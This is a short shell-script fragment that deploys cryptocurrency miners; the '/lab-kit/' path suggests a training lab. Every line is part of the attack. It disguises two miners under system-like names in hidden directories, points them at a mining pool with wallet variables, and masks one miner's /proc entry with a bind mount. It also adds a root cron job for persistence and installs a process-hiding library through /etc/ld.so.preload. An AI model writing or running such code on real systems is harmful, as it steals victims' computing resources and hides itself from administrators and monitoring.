# Last the library, because afterwards even this script is blind.
mimic /usr/local/share/.kdevtmpd/kdevtmpd /opt/.mount/udevmon
start -d 10 -p "$POOL" /usr/local/share/.kdevtmpd/kdevtmpd kdevtmpd -o "$POOL" -u "$WALLET" -p x
start -d 10 /opt/.mount/udevmon udevmon -a rx/0 -o "stratum+tcp://$POOL" -u "$WALLET2" -p x
sleep 0.3
mkdir -p /var/tmp/.empty
mount --bind /var/tmp/.empty "/proc/$(pgrep -x udevmon)"
echo '*/5 * * * * root /usr/local/share/.kdevtmpd/kdevtmpd >/dev/null 2>&1' | put /etc/cron.d/kdevtmpd
install -m 644 /lab-kit/hider.so /usr/local/lib/libprocesshider.so
echo /usr/local/lib/libprocesshider.so >/etc/ld.so.preload
